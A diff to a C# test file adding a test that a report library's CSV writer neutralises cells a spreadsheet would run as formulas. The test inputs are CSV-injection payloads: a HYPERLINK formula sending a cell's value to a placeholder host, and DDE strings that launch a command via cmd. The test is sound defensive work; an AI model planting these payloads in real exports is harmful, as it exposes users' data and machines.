@@ -3,6 +3,7 @@ using System.Text;
 using CsvHelper;
 using Landrush.Reports.Documents;
 using Landrush.Reports.Model;
+using Landrush.Reports.Tables;
 
 namespace Landrush.Reports.Tests.Documents;
 
@@ -54,6 +55,28 @@ public class MarkdownAndCsvTests
         Assert.Equal(["A, \"the first\"", "5,010"], rows[1]);
         Assert.Equal(["B", "5086"], rows[2]);
         Assert.DoesNotContain('\r', text);
+    }
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")]
+    [InlineData("+cmd|' /C calc'!A0")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)")]
+    [InlineData("\t=1+1")]
+    public void Csv_escapes_a_cell_a_spreadsheet_would_run_as_a_formula(string cell)
+    {
+        var table = new ReportTable("t", "T", ["party", "share"], [[cell, "-0.25"], ["B", "1E-05"]]);
+        var text = CsvTable.Render(table);
+        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
+        var rows = new List<string[]>();
+        while (reader.Read())
+        {
+            rows.Add([reader.GetField(0)!, reader.GetField(1)!]);
+        }
+
+        // Shown as text with a leading quote; numbers, negative ones too, are left as numbers.
+        Assert.Equal(["'" + cell, "-0.25"], rows[1]);
+        Assert.Equal(["B", "1E-05"], rows[2]);
     }
 
     [Fact]
